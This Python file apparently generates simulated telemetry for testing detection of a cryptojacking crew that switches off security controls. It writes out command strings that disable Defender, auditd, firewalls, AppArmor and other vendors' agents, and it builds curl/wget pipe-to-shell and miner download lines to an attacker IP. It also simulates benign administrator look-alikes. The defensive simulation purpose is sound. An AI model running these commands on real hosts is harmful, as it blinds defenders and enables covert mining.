"""Security tooling switched off before mining (T1562.001, T1562.004): a cryptojacking
crew with root turns off Defender for Endpoint, audit logging, the host firewall and
mandatory access control with the tools an administrator would use, then fetches its
miner. Rocke, Kinsing, TeamTNT and 8220 Gang scripts all do this first.

Per instance: the host and the administrator account used to get in; whether the
operator types the commands or pipes a downloaded script into a shell (curl or wget,
bash or sh, the server's address and port); which controls go and how (Defender's own
CLI turning real-time, behaviour or cloud protection off, systemctl stop, disable,
disable --now or mask, service ... stop, pkill or killall of the daemon; auditd stopped
or its rules dropped with auditctl; ufw disabled, iptables flushed or opened, nftables
flushed; AppArmor torn down or stopped, setenforce 0; agents of other vendors sprayed
blindly), in which order and how far apart; where the miner is fetched to.

Look-alikes: administrators restarting and checking Defender, re-enabling protection and
adding exclusions; package upgrades whose maintainer scripts stop and start the agent;
firewall rule changes; Docker (re)building its iptables chains; auditd rule reloads and
log rotations; AppArmor profile maintenance.
"""

from __future__ import annotations

from pytest_ctirealm.telemetry.campaign import Instance
from pytest_ctirealm.telemetry.context import SimContext
from pytest_ctirealm.telemetry.linux import Process
from pytest_ctirealm.telemetry.scenarios.base import Stages, Timeline, incident_start, scenario
from pytest_ctirealm.telemetry.scenarios.linux.common import (
    BASH,
    SH,
    LookalikeFamily,
    register_lookalikes,
    root_session,
)

CAMPAIGN = "defense_evasion"

_SYSTEMCTL = "/usr/bin/systemctl"
#: (command, image) choices per control; an instance draws one or more per chosen control.
_DEFENDER = (
    ("mdatp config real-time-protection --value disabled", "/usr/bin/mdatp"),
    ("mdatp config behavior-monitoring --value disabled", "/usr/bin/mdatp"),
    ("mdatp config cloud --value disabled", "/usr/bin/mdatp"),
    ("systemctl stop mdatp", _SYSTEMCTL),
    ("systemctl disable mdatp", _SYSTEMCTL),
    ("systemctl disable --now mdatp", _SYSTEMCTL),
    ("systemctl mask mdatp.service", _SYSTEMCTL),
    ("service mdatp stop", "/usr/sbin/service"),
    ("pkill -9 -f wdavdaemon", "/usr/bin/pkill"),
    ("killall -9 wdavdaemon", "/usr/bin/killall"),
)
_AUDIT = (
    ("service auditd stop", "/usr/sbin/service"),
    ("systemctl stop auditd", _SYSTEMCTL),
    ("systemctl mask auditd", _SYSTEMCTL),
    ("auditctl -e 0", "/usr/sbin/auditctl"),
    ("auditctl -D", "/usr/sbin/auditctl"),
)
_FIREWALL = (
    ("ufw disable", "/usr/sbin/ufw"),
    ("ufw --force disable", "/usr/sbin/ufw"),
    ("iptables -F", "/usr/sbin/iptables"),
    ("iptables -P INPUT ACCEPT", "/usr/sbin/iptables"),
    ("iptables -X", "/usr/sbin/iptables"),
    ("nft flush ruleset", "/usr/sbin/nft"),
    ("systemctl stop ufw", _SYSTEMCTL),
)
_MAC = (
    ("setenforce 0", "/usr/sbin/setenforce"),
    ("systemctl stop apparmor", _SYSTEMCTL),
    ("systemctl disable apparmor", _SYSTEMCTL),
    ("aa-teardown", "/usr/sbin/aa-teardown"),
    ("service apparmor teardown", "/usr/sbin/service"),
)
#: Other vendors' agents that spray scripts stop whether or not they are installed.
_OTHER_AGENTS = (
    ("systemctl stop falcon-sensor", _SYSTEMCTL),
    ("systemctl disable falcon-sensor", _SYSTEMCTL),
    ("systemctl stop sentinelone", _SYSTEMCTL),
    ("systemctl stop osqueryd", _SYSTEMCTL),
    ("systemctl stop wazuh-agent", _SYSTEMCTL),
    ("systemctl stop azuremonitoragent", _SYSTEMCTL),
    ("systemctl stop aegis", _SYSTEMCTL),
    ("pkill -9 -f falcon-sensor", "/usr/bin/pkill"),
)
_MINER_PATHS = (
    "/tmp/.X0-lock",
    "/var/tmp/.systemd-udevd",
    "/dev/shm/.kworker",
    "/tmp/.ICE-unix/kdmtmpflush",
    "/var/tmp/.cache/sshd",
)


def _actions(instance: Instance) -> list[tuple[str, str]]:
    """Defender always; then two to four other controls, in an order of the operator's."""
    defender = instance.rng.sample(_DEFENDER, instance.between(1, 3))
    groups = instance.rng.sample((_AUDIT, _FIREWALL, _MAC, _OTHER_AGENTS), instance.between(2, 4))
    others = [instance.rng.choice(group) for group in groups]
    if instance.chance(0.4):
        others.append(instance.rng.choice(_FIREWALL))
    actions = defender + [a for a in others if a not in defender]
    if instance.chance(0.5):
        # Some operators shuffle; most do Defender first.
        instance.rng.shuffle(actions)
    actions = list(dict.fromkeys(actions))
    instance.keep("actions", [command for command, _ in actions])
    return actions


def _loader(t: Timeline, instance: Instance, root: Process) -> Process:
    """The shell the commands come from: the root shell itself, or a downloaded script
    piped into a shell."""
    mode = instance.pick("mode", ("typed-commands", "piped-script"))
    if mode == "typed-commands":
        return root
    ip = instance.attacker_ip("script_ip")
    port = instance.port("script_port", (80, 443, 8080, 8443, 9999, 5000))
    name = instance.pick("script", ("init.sh", "ldr.sh", "s.sh", "xm.sh", "lb.sh", "cr.sh", "i.sh"))
    url = f"http://{ip}:{port}/{name}"
    fetcher = instance.pick("fetcher", ("curl", "wget"))
    if fetcher == "curl":
        t.run("access", root, "/usr/bin/curl", f"curl -fsSL {url}", after=(10, 60))
    else:
        t.run("access", root, "/usr/bin/wget", f"wget -q -O - {url}", after=(10, 60))
    shell = instance.pick("shell", ("bash", "sh"))
    return t.run("access", root, BASH if shell == "bash" else SH, shell, after=(0.01, 0.1))


@scenario(CAMPAIGN, "linux", ("access", "disable_tools", "payload_fetch"))
def defense_evasion(ctx: SimContext) -> Stages:
    """Switch off the controls, then fetch the miner."""
    instance = Instance(ctx, CAMPAIGN)
    host = instance.linux_host("host")
    admin = instance.pick("account", host.admin_users)
    t = Timeline(ctx, CAMPAIGN, host, incident_start(ctx, "evasion", (0, 22)))
    root = root_session(t, admin)
    shell = _loader(t, instance, root)
    pace = (2.0, 25.0) if shell is root else (0.05, 1.5)
    for command, image in _actions(instance):
        t.run("disable_tools", shell, image, command, after=pace)
    miner = instance.pick("miner_path", _MINER_PATHS)
    ip = instance.values.get("script_ip") or instance.attacker_ip("payload_ip")
    url = f"http://{ip}/{instance.hex('payload', 8)}"
    if instance.chance(0.5):
        fetch = t.run("payload_fetch", shell, "/usr/bin/curl", f"curl -fsSL {url} -o {miner}")
    else:
        fetch = t.run("payload_fetch", shell, "/usr/bin/wget", f"wget -q {url} -O {miner}")
    t.file(
        "payload_fetch",
        fetch,
        "FileCreated",
        miner,
        after=(1, 8),
        size=instance.between(2_000_000, 6_000_000),
    )
    t.run("payload_fetch", shell, "/usr/bin/chmod", f"chmod +x {miner}")
    return t.stages


# -- look-alikes ---------------------------------------------------------------------------


_MAINTENANCE = (
    ("systemctl restart mdatp", _SYSTEMCTL),
    ("systemctl status mdatp --no-pager", _SYSTEMCTL),
    ("mdatp health --field real_time_protection_enabled", "/usr/bin/mdatp"),
    ("mdatp config real-time-protection --value enabled", "/usr/bin/mdatp"),
    ("mdatp config behavior-monitoring --value enabled", "/usr/bin/mdatp"),
    ("mdatp exclusion folder add --path /var/lib/postgresql/14/main", "/usr/bin/mdatp"),
    ("mdatp exclusion process add --name java", "/usr/bin/mdatp"),
    ("mdatp connectivity test", "/usr/bin/mdatp"),
    ("mdatp diagnostic create", "/usr/bin/mdatp"),
    ("mdatp config real-time-protection-statistics --value enabled", "/usr/bin/mdatp"),
)


def _agent_maintenance(ctx: SimContext, family: LookalikeFamily) -> None:
    """Administrators troubleshoot Defender: restarts, health checks, protection turned
    back on, exclusions for busy data directories."""
    stage = family.name
    for t, root in family.root_sessions(family.moments(1, 2)):
        for command, image in t.rng.sample(_MAINTENANCE, t.rng.randint(2, 4)):
            t.run(stage, root, image, command, after=(10, 90))


def _package_upgrades(ctx: SimContext, family: LookalikeFamily) -> None:
    """Upgrades of Defender and auditd: the maintainer scripts stop the service before
    unpacking and start it afterwards."""
    stage = family.name
    for t, root in family.root_sessions(family.moments(1, 1)):
        package = t.rng.choice(("mdatp", "auditd", "mdatp"))
        version = "101.24082.0004" if package == "mdatp" else "1:3.0.7-1ubuntu5"
        get = t.run(stage, root, "/usr/bin/apt-get", f"apt-get install --only-upgrade -y {package}")
        dpkg = t.run(
            stage,
            get,
            "/usr/bin/dpkg",
            f"/usr/bin/dpkg --status-fd 35 --unpack --auto-deconfigure /var/cache/apt/archives/{package}_{version}_amd64.deb",
            after=(5, 20),
        )
        prerm = t.run(
            stage, dpkg, SH, f"/bin/sh /var/lib/dpkg/info/{package}.prerm upgrade {version}"
        )
        if package == "mdatp":
            t.run(stage, prerm, _SYSTEMCTL, "systemctl stop mdatp")
        else:
            t.run(
                stage,
                prerm,
                "/usr/bin/deb-systemd-invoke",
                "deb-systemd-invoke stop auditd.service",
            )
        postinst = t.run(
            stage,
            dpkg,
            SH,
            f"/bin/sh /var/lib/dpkg/info/{package}.postinst configure",
            after=(5, 30),
        )
        t.run(stage, postinst, _SYSTEMCTL, "systemctl daemon-reload")
        t.run(stage, postinst, _SYSTEMCTL, f"systemctl start {package}")


_UFW_RULES = (
    "ufw allow from 10.1.0.0/16 to any port 5432 proto tcp",
    "ufw allow 443/tcp",
    "ufw reload",
    "ufw status numbered",
    "ufw delete 4",
    "ufw allow from 10.1.0.4 to any port 22",
    "ufw logging low",
)


def _firewall_changes(ctx: SimContext, family: LookalikeFamily) -> None:
    """Administrators open and close ports and read the rules."""
    stage = family.name
    for t, root in family.root_sessions(family.moments(1, 2)):
        for command in t.rng.sample(_UFW_RULES, t.rng.randint(2, 3)):
            t.run(stage, root, "/usr/sbin/ufw", command, after=(10, 60))
        if t.rng.random() < 0.5:
            t.run(stage, root, "/usr/sbin/iptables", "iptables -L -n -v", after=(5, 30))


_DOCKER_CHAINS = (
    "iptables --wait -t nat -F DOCKER",
    "iptables --wait -t filter -F DOCKER-ISOLATION-STAGE-1",
    "iptables --wait -t filter -F DOCKER-ISOLATION-STAGE-2",
    "iptables --wait -t filter -X DOCKER-ISOLATION-STAGE-1",
    "iptables --wait -t nat -N DOCKER",
    "iptables --wait -t filter -F DOCKER-USER",
)


def _docker_chains(ctx: SimContext, family: LookalikeFamily) -> None:
    """Docker restarted on the build and application hosts rebuilds its iptables chains:
    it flushes and deletes its own chains."""
    stage = family.name
    for t, root in family.root_sessions(family.moments(1, 1, roles=("build", "app"))):
        t.run(stage, root, _SYSTEMCTL, "systemctl restart docker")
        dockerd = t.run(
            stage,
            t.daemon("systemd"),
            "/usr/bin/dockerd",
            "/usr/bin/dockerd -H fd:// --containerd=/run/containerd/containerd.sock",
            "root",
            after=(1, 3),
        )
        for command in t.rng.sample(_DOCKER_CHAINS, t.rng.randint(3, 5)):
            t.run(stage, dockerd, "/usr/sbin/iptables", command, after=(0.05, 0.5))


def _audit_maintenance(ctx: SimContext, family: LookalikeFamily) -> None:
    """The audit rules reloaded after a change, the log rotated, the daemon restarted."""
    stage = family.name
    commands = (
        ("augenrules --load", "/usr/sbin/augenrules"),
        ("auditctl -l", "/usr/sbin/auditctl"),
        ("auditctl -s", "/usr/sbin/auditctl"),
        ("service auditd rotate", "/usr/sbin/service"),
        ("service auditd restart", "/usr/sbin/service"),
        ("systemctl status auditd --no-pager", _SYSTEMCTL),
        ("aureport --summary", "/usr/sbin/aureport"),
    )
    for t, root in family.root_sessions(family.moments(1, 2)):
        for command, image in t.rng.sample(commands, t.rng.randint(2, 3)):
            t.run(stage, root, image, command, after=(10, 60))


def _apparmor_profiles(ctx: SimContext, family: LookalikeFamily) -> None:
    """AppArmor profiles reloaded and checked after nginx and postgres configuration
    changes."""
    stage = family.name
    commands = (
        ("aa-status", "/usr/sbin/aa-status"),
        ("apparmor_parser -r /etc/apparmor.d/usr.sbin.nginx", "/usr/sbin/apparmor_parser"),
        ("systemctl reload apparmor", _SYSTEMCTL),
        ("aa-enforce /etc/apparmor.d/usr.sbin.nginx", "/usr/sbin/aa-enforce"),
        ("systemctl status apparmor --no-pager", _SYSTEMCTL),
    )
    for t, root in family.root_sessions(family.moments(1, 2)):
        for command, image in t.rng.sample(commands, t.rng.randint(2, 3)):
            t.run(stage, root, image, command, after=(10, 60))


_FAMILIES = {
    "agent_maintenance": _agent_maintenance,
    "package_upgrades": _package_upgrades,
    "firewall_changes": _firewall_changes,
    "docker_chains": _docker_chains,
    "audit_maintenance": _audit_maintenance,
    "apparmor_profiles": _apparmor_profiles,
}

register_lookalikes(CAMPAIGN, _FAMILIES)
